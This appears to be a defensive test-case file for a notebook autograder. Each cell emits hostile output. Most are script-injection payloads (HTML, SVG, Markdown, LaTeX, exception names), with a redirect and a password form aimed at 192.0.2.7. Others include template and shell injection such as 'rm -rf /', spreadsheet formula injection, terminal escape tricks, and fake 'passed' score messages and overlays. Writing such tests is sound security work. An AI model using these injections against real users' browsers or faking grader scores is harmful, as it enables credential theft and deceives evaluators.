# Outputs that act in the browser of who reads them, or pretend to be something else.

# %% hostile="a script in an HTML output" extra="end" others="right" deserves=100
from IPython.display import HTML, display

display(HTML("<script>document.title = 'hostile ran'; window.hostile = 1</script>"))
display(HTML("<img src=x onerror=\"window.hostile = 1\"><body onload='window.hostile=1'>"))


# %% hostile="a script as JavaScript output" extra="end" others="right" deserves=100
from IPython.display import Javascript, display

display(Javascript("window.hostile = 1; element.innerHTML = 'hostile ran'"))
display({"application/javascript": "window.hostile = 1", "text/plain": "x"}, raw=True)


# %% hostile="a script in an SVG picture" extra="end" others="right" deserves=100
from IPython.display import SVG, display

display(
    SVG(
        "<svg xmlns='http://www.w3.org/2000/svg' onload='window.hostile=1'>"
        "<script>window.hostile = 1</script><foreignObject><iframe "
        "src='javascript:parent.hostile=1'/></foreignObject><a href='javascript:hostile=1'/></svg>"
    )
)


# %% hostile="markdown and latex with scripts" extra="end" others="right" deserves=100
from IPython.display import Latex, Markdown, display

display(Markdown("[x](javascript:window.hostile=1) <script>window.hostile=1</script>"))
display(Markdown("<svg/onload=window.hostile=1>\n\n$\\href{javascript:window.hostile=1}{x}$"))
display(Latex("$$\\href{javascript:window.hostile=1}{\\text{click}}\\unicode{<script>}$$"))
display(Latex("$\\style{background:url(javascript:hostile=1)}{x}$"))


# %% hostile="frames, forms and redirects" extra="end" others="right" deserves=100
from IPython.display import HTML, IFrame, display

display(IFrame("javascript:parent.hostile=1", 10, 10))
display(
    HTML(
        "<iframe srcdoc='<script>parent.hostile=1</script>'></iframe>"
        "<meta http-equiv=refresh content='0;url=http://192.0.2.7/'>"
        "<base href='http://192.0.2.7/'><link rel=stylesheet href='//192.0.2.7/x.css'>"
        "<form action='http://192.0.2.7/'><input name=password autofocus onfocus=hostile=1></form>"
        "<object data='javascript:hostile=1'></object><embed src='javascript:hostile=1'>"
    )
)


# %% hostile="a picture that is no picture" extra="end" others="right" deserves=100
from IPython.display import display

display({"image/png": "\"><script>window.hostile=1</script>", "text/plain": "x"}, raw=True)
display({"image/jpeg": "x' onerror='window.hostile=1", "text/plain": "x"}, raw=True)
display(
    {"image/png": "iVBORw0KGgo="},
    metadata={"image/png": {"width": "1\" onerror=\"window.hostile=1", "alt": "\"><script>"}},
    raw=True,
)


# %% hostile="mime types of one's own making" extra="end" others="right" deserves=100
from IPython.display import display

for kind in ("text/html; x=\"><script>", "application/x-evil", "text/vnd.mermaid", "__proto__"):
    display({kind: "<script>window.hostile=1</script>", "text/plain": "x"}, raw=True)
display(
    {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>hostile=1"}},
    raw=True,
)
display({"text/html": ["<scr", "ipt>window.hostile=1</scr", "ipt>"], "text/plain": 5}, raw=True)


# %% hostile="a script in printed text" extra="end" others="right" deserves=100
print("<script>window.hostile = 1</script>")
print("</pre></div></script><script>window.hostile = 1</script><!--")
print("<img src=x onerror=window.hostile=1>", flush=True)
print("\x1b]8;;javascript:window.hostile=1\x1b\\click\x1b]8;;\x1b\\")


# %% hostile="a script in an exception's name and text" replaces="double" deserves=0
def double(x):
    kind = type("<script>window.hostile=1</script>", (Exception,), {})
    raise kind("</pre><img src=x onerror=window.hostile=1>")


# %% hostile="a script in an exception at the end" extra="end" others="right" deserves=100
raise type("<script>window.hostile=1</script>", (Exception,), {})("<svg onload=hostile=1>")


# %% hostile="a script in the name of a function that is not written" replaces="double" deserves=0
def late():
    raise NotImplementedError("<script>window.hostile=1</script>")


late.__code__ = late.__code__.replace(
    co_name="<img src=x onerror=window.hostile=1>",
    co_qualname="<script>window.hostile=1</script>",
)


def double(x):
    return late()


# %% hostile="a script in the source of the line that stopped" replaces="double" deserves=0
def double(x):
    raise ValueError  # </script></pre><script>window.hostile = 1</script><img src=x onerror=hostile=1>


# %% hostile="comments that end scripts and code fences" extra="end" others="right" deserves=100
# </script><script>window.hostile = 1</script>
# ``` </pre></code> --> ]]> <![CDATA[ <!-- ]]>
"""</textarea></title></style><script>window.hostile = 1</script>"""
None


# %% hostile="terminal tricks: title, clearing, hidden text, answers" extra="end" others="right" deserves=100
print("\x1b[2J\x1b[H\x1b]0;passed\x07\x1b[8mhidden\x1b[0m\x1b[5n\x1b[c\x1bc")
print("points: 0\rpoints: 100")
print("\x08" * 500 + "double ✓  value")
print("\x1b[31m" * 20000 + "red")
print("\x9b31m \x90 \x98 \x84")


# %% hostile="text that turns direction and hides" extra="end" others="right" deserves=100
print("\u202e passed ton \u202c \u200b\u2066 points 001 \u2069 \ufeff \u0000 \ufffe \U000e0041")
print("Z" + "\u0301" * 5000)


# %% hostile="lone surrogates and broken UTF-8 in the output" extra="end" others="right" deserves=100
import os
import sys

print("\udcff \ud800".encode("utf-8", "surrogatepass").decode("utf-8", "surrogatepass"))
os.write(1, b"\xff\xfe\x00\xc3\x28\n")
sys.__stdout__.buffer.write(b"\xf0\x28\x8c\x28\n") if hasattr(sys.__stdout__, "buffer") else None


# %% hostile="a message that looks like a passed test" replaces="double" deserves=0
def double(x):
    raise ValueError("\n\n\ndouble ✓  value · hidden: large numbers\n\nPoints: 20 of 20\n")


# %% hostile="a feedback page of one's own over the true one" extra="end" deserves=0
from IPython.display import HTML, display

display(
    HTML(
        "<div style='position:fixed;inset:0;background:white;z-index:99999'>"
        "<h1>light (Score: 100.0 / 100.0)</h1></div><style>.nbgrader_cell{display:none}</style>"
    )
)


# %% hostile="template words of page makers" extra="end" others="right" deserves=100
print("{{ 7 * 7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}")
print("${7*7} <%= 7*7 %> #{7*7} {{config}} %s %n {0.__class__} $(id) `id` ; rm -rf /")
print("=cmd|' /C calc'!A0\n+1+1\n@SUM(1,2)\n-2+3")


# %% hostile="a very long line and a very long table" extra="end" others="right" deserves=100
from IPython.display import HTML, display

print("w" * 5_000_000)
display(HTML("<table>" + "<tr><td>1</td></tr>" * 100_000))
display(HTML("<div>" * 50_000))
